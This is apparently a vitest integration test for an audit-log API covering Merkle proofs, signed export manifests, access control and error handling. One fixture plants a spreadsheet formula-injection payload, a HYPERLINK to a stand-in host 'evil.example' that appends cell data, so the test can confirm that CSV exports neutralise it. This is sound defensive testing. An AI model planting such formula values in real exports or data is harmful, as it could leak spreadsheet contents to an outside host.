import { createHash } from "node:crypto";
import { writeFile } from "node:fs/promises";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { StaffContext } from "@/lib/auth/staff-context";
import { latestCheckpointSummary } from "@/lib/log/checkpoints/checkpoint-summary";
import { eventLeafHash } from "@/lib/log/events/event-leaf";
import { openManifest } from "@/lib/log/format/export-manifest";
import { verifyConsistency, verifyInclusion } from "@/lib/log/merkle/merkle-verify";
import { verifyExport } from "@/lib/log/verify/offline-verify";
import { recordEvent } from "@/lib/log/events/record-event";
import { Sealer } from "@/lib/log/sealer/sealer";
import { verifyCsvFile } from "@/lib/log/verify/verify-export-file";
import { verifyLiveLog } from "@/lib/audit/verification/verify-live-log";
import { disconnectDb, getDb } from "@/lib/db";
import { type LogDb, TEST_ORIGIN, appendEvents, dropTemplate, freshLogDb } from "./audit-log-db";
import { makeStaff } from "./world";

// The audit API end to end through the route handlers (session lookup stubbed, the permission
// table and everything below it real), on a database of its own: proofs that verify with the
// client-side verifiers, exports that verify offline and match their signed manifests, CSV
// cells that cannot run as formulas, and bad input answered 4xx with a message, never 500.

const signedIn: { staff: StaffContext | null } = { staff: null };
vi.mock("@/lib/auth/current-staff", async (original) => ({ ...(await original<object>()), currentStaff: async () => signedIn.staff }));

const { GET: publicKey } = await import("@/app/api/v1/audit/public-key/route");
const { GET: latest } = await import("@/app/api/v1/audit/checkpoints/latest/route");
const { GET: consistency } = await import("@/app/api/v1/audit/checkpoints/consistency/route");
const { GET: proof } = await import("@/app/api/v1/audit/events/[seq]/proof/route");
const { GET: exportLog } = await import("@/app/api/v1/audit/export/route");
const { GET: manifest } = await import("@/app/api/v1/audit/exports/[exportId]/manifest/route");

let d: LogDb;
let auditor: StaffContext;
let reviewer: StaffContext;
const sizes: number[] = [];

const get = (url: string) => new Request(`http://localhost${url}`, { headers: { "user-agent": "vitest" } });
const params = <T extends object>(p: T) => ({ params: Promise.resolve(p) });
async function as<T>(staff: StaffContext | null, fn: () => Promise<T>): Promise<T> {
  signedIn.staff = staff;
  return fn();
}
async function sealAll() {
  await new Sealer({ connectionString: d.appUrl, config: d.config, log: () => {} }).sealAll();
  const r = await d.owner.query<{ n: string }>("SELECT max(tree_size)::text AS n FROM audit_checkpoint");
  sizes.push(Number(r.rows[0]!.n));
}

beforeAll(async () => {
  d = await freshLogDb();
  Object.assign(process.env, { DATABASE_URL: d.appUrl, CUSTODY_CHECKPOINT_DIR: d.config.checkpointDir, CUSTODY_SIGNING_KEY: d.config.signingKeyEnv, CUSTODY_LOG_ORIGIN: TEST_ORIGIN });
  auditor = await makeStaff(["AUDITOR"]);
  reviewer = await makeStaff(["REVIEWER"]);
  await appendEvents(d, 300);
  await sealAll();
  await recordEvent(getDb(), {
    actor: { id: reviewer.id, email: reviewer.email, roles: reviewer.roles },
    action: "CONTENT_READ",
    outcome: "ALLOWED",
    justification: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    meta: { requestId: "csv-test", ipHmac: null, userAgent: "@SUM(1+1)" },
  });
  await appendEvents(d, 40);
  await sealAll();
});

afterAll(async () => {
  await disconnectDb();
  await d.drop();
  await dropTemplate();
});

describe("public key and checkpoints", () => {
  it("publishes the verifier key to anyone", async () => {
    const res = await as(null, () => publicKey(get("/api/v1/audit/public-key")));
    expect(res.status).toBe(200);
    expect((await res.text()).trim()).toBe(d.signer.verifierKey);
  });

  it("gives auditors the latest checkpoint, and refuses other roles (logged)", async () => {
    const res = await as(auditor, () => latest(get("/api/v1/audit/checkpoints/latest")));
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ treeSize: sizes.at(-1), note: expect.stringContaining(TEST_ORIGIN) });
    expect((await as(reviewer, () => latest(get("/api/v1/audit/checkpoints/latest")))).status).toBe(403);
    expect((await as(null, () => latest(get("/api/v1/audit/checkpoints/latest")))).status).toBe(401);
    const denied = await getDb().accessEvent.findFirst({ where: { action: "ACCESS_DENIED", actorId: reviewer.id }, orderBy: { seq: "desc" } });
    expect(denied?.details).toMatchObject({ operation: "GET /api/v1/audit/checkpoints/latest" });
  });

  it("proves consistency between two checkpoints with the verifier clients use", async () => {
    const [m, n] = sizes as [number, number];
    const res = await as(auditor, () => consistency(get(`/api/v1/audit/checkpoints/consistency?from=${m}&to=${n}`)));
    expect(res.status).toBe(200);
    const body = (await res.json()) as { from: { rootHash: string }; to: { rootHash: string }; proof: string[] };
    const b = (s: string) => Buffer.from(s, "base64");
    expect(verifyConsistency(m, n, b(body.from.rootHash), b(body.to.rootHash), body.proof.map(b))).toBe(true);
  });

  it.each([
    ["from missing", "", 400],
    ["from not a number", "?from=abc", 400],
    ["from zero", "?from=0", 400],
    ["from after to", `?from=${Number.MAX_SAFE_INTEGER}`, 400],
    ["no checkpoint of that size", "?from=7", 404],
  ])("answers %s with %i and a message", async (_name, query, status) => {
    const res = await as(auditor, () => consistency(get(`/api/v1/audit/checkpoints/consistency${query}`)));
    expect(res.status).toBe(status);
    expect(((await res.json()) as { error: { message: string } }).error.message).toBeTruthy();
  });
});

describe("inclusion proofs", () => {
  it("proves a sealed event against the latest checkpoint, with the event to recompute its leaf", async () => {
    const res = await as(auditor, () => proof(get("/api/v1/audit/events/123/proof"), params({ seq: "123" })));
    expect(res.status).toBe(200);
    const body = (await res.json()) as { leafIndex: number; leafHash: string; event: object; proof: string[]; checkpoint: { treeSize: number; rootHash: string } };
    expect(eventLeafHash(body.event).toString("base64")).toBe(body.leafHash);
    const b = (s: string) => Buffer.from(s, "base64");
    expect(verifyInclusion(b(body.leafHash), body.leafIndex, body.checkpoint.treeSize, body.proof.map(b), b(body.checkpoint.rootHash))).toBe(true);
    expect(body.checkpoint.treeSize).toBe(sizes.at(-1));
  });

  it("proves it against an older checkpoint on request", async () => {
    const res = await as(auditor, () => proof(get(`/api/v1/audit/events/5/proof?treeSize=${sizes[0]}`), params({ seq: "5" })));
    expect(res.status).toBe(200);
    expect(((await res.json()) as { checkpoint: { treeSize: number } }).checkpoint.treeSize).toBe(sizes[0]);
  });

  it.each([
    ["a seq that is not a number", "abc", "", 400],
    ["seq zero", "0", "", 400],
    ["a seq too large for bigint", "99999999999999999999", "", 400],
    ["a treeSize that is not a number", "5", "?treeSize=x", 400],
    ["an event that does not exist", "999999", "", 404],
    ["a treeSize with no checkpoint", "5", "?treeSize=3", 404],
  ])("answers %s with a 4xx and a message", async (_name, seq, query, status) => {
    const res = await as(auditor, () => proof(get(`/api/v1/audit/events/${seq}/proof${query}`), params({ seq })));
    expect(res.status).toBe(status);
    expect(((await res.json()) as { error: { message: string } }).error.message).toBeTruthy();
  });

  it("answers 409 for an event sealed after the checkpoint asked for", async () => {
    const last = await d.owner.query<{ seq: string }>("SELECT seq::text FROM audit_leaf WHERE leaf_index = $1", [sizes.at(-1)! - 1]);
    const seq = last.rows[0]!.seq;
    const res = await as(auditor, () => proof(get(`/api/v1/audit/events/${seq}/proof?treeSize=${sizes[0]}`), params({ seq })));
    expect(res.status).toBe(409);
  });

  it("answers 409 for an event not sealed yet", async () => {
    const seq = await recordEvent(getDb(), { actor: null, action: "SIGN_IN", outcome: "ALLOWED", details: { method: "password", sessionId: "s-1" } });
    const res = await as(auditor, () => proof(get(`/api/v1/audit/events/${seq}/proof`), params({ seq: String(seq) })));
    expect(res.status).toBe(409);
  });
});

describe("exports", () => {
  async function download(query: string) {
    const res = await as(auditor, () => exportLog(get(`/api/v1/audit/export?${query}`)));
    const body = await res.text();
    return { res, body, id: res.headers.get("x-custody-export-id")! };
  }

  it("streams the whole log as JSONL that verifies offline, logs the export first, and signs a manifest of the bytes", async () => {
    const before = await getDb().accessEvent.count({ where: { action: "AUDIT_EXPORTED" } });
    const { res, body, id } = await download("format=jsonl");
    expect(res.status).toBe(200);
    expect(res.headers.get("x-custody-export-scope")).toBe("contiguous");
    const result = await verifyExport(body.split("\n"), { verifierKey: d.signer.verifierKey });
    expect(result).toMatchObject({ ok: true, sealedEvents: sizes.at(-1), verifiedSize: sizes.at(-1) });
    const logged = await getDb().accessEvent.findFirst({ where: { action: "AUDIT_EXPORTED" }, orderBy: { seq: "desc" } });
    expect(await getDb().accessEvent.count({ where: { action: "AUDIT_EXPORTED" } })).toBe(before + 1);
    expect(logged).toMatchObject({ actorId: auditor.id, details: expect.objectContaining({ exportId: id, format: "jsonl", scope: "contiguous" }) });
    // The export's own event was committed before streaming, so the file carries it (unsealed).
    expect(body).toContain(`"exportId":"${id}"`);

    const m = await as(auditor, () => manifest(get(`/api/v1/audit/exports/${id}/manifest`), params({ exportId: id })));
    expect(m.status).toBe(200);
    const signed = openManifest(await m.text(), d.signer.verifierKey);
    expect(signed).toMatchObject({ exportId: id, format: "jsonl", scope: "contiguous", events: result.ok ? result.events : -1 });
    expect(signed.sha256).toBe(createHash("sha256").update(body).digest("hex"));
    expect(signed.checkpoint?.size).toBe(sizes.at(-1));
  });

  it("exports a filtered selection with inclusion proofs, consistent with an older checkpoint the auditor kept", async () => {
    const kept = await d.owner.query<{ note: string }>("SELECT note FROM audit_checkpoint WHERE tree_size = $1", [sizes[0]]);
    const { res, body } = await download(`format=jsonl&action=CONTENT_READ&consistencyFrom=${sizes[0]}`);
    expect(res.status, body).toBe(200);
    expect(res.headers.get("x-custody-export-scope")).toBe("filtered");
    const events = body.split("\n").filter((l) => l.startsWith('{"type":"event"'));
    expect(events.length).toBeGreaterThan(10);
    expect(events.every((l) => l.includes('"action":"CONTENT_READ"') && (l.includes('"proof":[') || l.includes('"leafIndex":null')))).toBe(true);
    const result = await verifyExport(body.split("\n"), { verifierKey: d.signer.verifierKey, trustedCheckpoint: kept.rows[0]!.note });
    expect(result).toMatchObject({ ok: true, uncoveredEvents: 0 });
  });

  it("exports CSV with formula cells neutralised, vouched for by its signed manifest", async () => {
    const { res, body, id } = await download("format=csv&actor=" + encodeURIComponent(reviewer.email));
    expect(res.headers.get("content-type")).toContain("text/csv");
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(body).toContain(",'@SUM(1+1),");
    expect(body).not.toMatch(/(^|,)[=+\-@]/m);
    const dir = d.config.checkpointDir;
    await writeFile(path.join(dir, "export.csv"), body);
    const note = await (await as(auditor, () => manifest(get(`/api/v1/audit/exports/${id}/manifest`), params({ exportId: id })))).text();
    const rows = (parse(body, { columns: true, relax_column_count: true }) as unknown[]).length;
    expect(await verifyCsvFile(path.join(dir, "export.csv"), { verifierKey: d.signer.verifierKey, manifest: note })).toMatchObject({ ok: true, events: rows });
    await writeFile(path.join(dir, "export.csv"), body.replace("CONTENT_READ", "CONTENT_REED"));
    expect(await verifyCsvFile(path.join(dir, "export.csv"), { verifierKey: d.signer.verifierKey, manifest: note })).toMatchObject({ ok: false, kind: "manifest" });
  });

  it.each([
    ["an unknown format", "format=xml", 400],
    ["a malformed date", "from=yesterday", 400],
    ["a negative fromLeaf", "fromLeaf=-1", 400],
    ["fromLeaf beyond the log", "fromLeaf=999999", 400],
    ["fromLeaf with a filter", "fromLeaf=5&action=CONTENT_READ", 400],
    ["consistencyFrom beyond the log", "consistencyFrom=999999", 400],
    ["an unknown action", "action=DROP_TABLE", 400],
  ])("answers %s with %i and a message, and logs no export", async (_name, query, status) => {
    const before = await getDb().accessEvent.count({ where: { action: "AUDIT_EXPORTED" } });
    const res = await as(auditor, () => exportLog(get(`/api/v1/audit/export?${query}`)));
    expect(res.status).toBe(status);
    expect(((await res.json()) as { error: { message: string } }).error.message).toBeTruthy();
    expect(await getDb().accessEvent.count({ where: { action: "AUDIT_EXPORTED" } })).toBe(before);
  });

  // If the AUDIT_EXPORTED insert failed and the error were swallowed, the whole log would
  // stream unlogged: the export must be refused before its first byte.
  it.each(["jsonl", "csv"])("refuses a %s export whose event cannot be written, and sends none of the log", async (format) => {
    const counts = async () =>
      (await d.owner.query<{ n: string }>("SELECT (SELECT count(*) FROM access_event WHERE action = 'AUDIT_EXPORTED') || '/' || (SELECT count(*) FROM audit_export_manifest) AS n")).rows[0]!.n;
    const before = await counts();
    const quiet = vi.spyOn(console, "error").mockImplementation(() => {});
    await d.owner.query("REVOKE INSERT ON access_event FROM custody_app");
    let res: Response;
    let body: string;
    try {
      res = await as(auditor, () => exportLog(get(`/api/v1/audit/export?format=${format}`)));
      body = await res.text();
    } finally {
      await d.owner.query("GRANT INSERT ON access_event TO custody_app");
      quiet.mockRestore();
    }
    expect(res.status).toBe(503);
    expect(JSON.parse(body)).toMatchObject({ error: { code: "LOG_UNAVAILABLE", message: expect.stringContaining("could not be written") } });
    expect(res.headers.get("x-custody-export-id")).toBeNull();
    expect(res.headers.get("content-disposition")).toBeNull();
    expect(body).not.toContain("CONTENT_READ");
    expect(body).not.toContain(reviewer.email);
    expect(await counts()).toBe(before);
    // Once the log is writable again the same export goes through.
    const again = await as(auditor, () => exportLog(get(`/api/v1/audit/export?format=${format}`)));
    expect([again.status, (await again.text()).includes("CONTENT_READ")]).toEqual([200, true]);
  });

  it("refuses exports and manifests to non-auditors, and answers bad manifest ids with 4xx", async () => {
    expect((await as(reviewer, () => exportLog(get("/api/v1/audit/export")))).status).toBe(403);
    expect((await as(auditor, () => manifest(get("/api/v1/audit/exports/nope/manifest"), params({ exportId: "nope" })))).status).toBe(400);
    const unknown = "00000000-0000-4000-8000-000000000000";
    expect((await as(auditor, () => manifest(get(`/api/v1/audit/exports/${unknown}/manifest`), params({ exportId: unknown })))).status).toBe(404);
  });
});

describe("verify now and the checkpoint summary", () => {
  it("verifies the live log with progress and records who verified it", async () => {
    const progress: [number, number][] = [];
    const result = await verifyLiveLog({ staff: auditor, onProgress: (done, total) => progress.push([done, total]) });
    expect(result).toMatchObject({ ok: true, verifiedSize: sizes.at(-1) });
    expect(progress.at(-1)![0]).toBe(progress.at(-1)![1]);
    const logged = await getDb().accessEvent.findFirst({ where: { action: "AUDIT_VERIFIED" }, orderBy: { seq: "desc" } });
    expect(logged).toMatchObject({ actorId: auditor.id, outcome: "ALLOWED", details: expect.objectContaining({ ok: true, verifiedSize: sizes.at(-1) }) });
    await expect(verifyLiveLog({ staff: reviewer })).rejects.toMatchObject({ status: 403 });
  });

  it("summarises the latest checkpoint", async () => {
    const summary = await latestCheckpointSummary();
    expect(summary).toMatchObject({ size: sizes.at(-1), rootHash: expect.any(String) });
    expect(summary!.ageSeconds).toBeGreaterThanOrEqual(0);
    expect(summary!.unsealedEvents).toBeGreaterThan(0); // the events this file logged since
  });
});
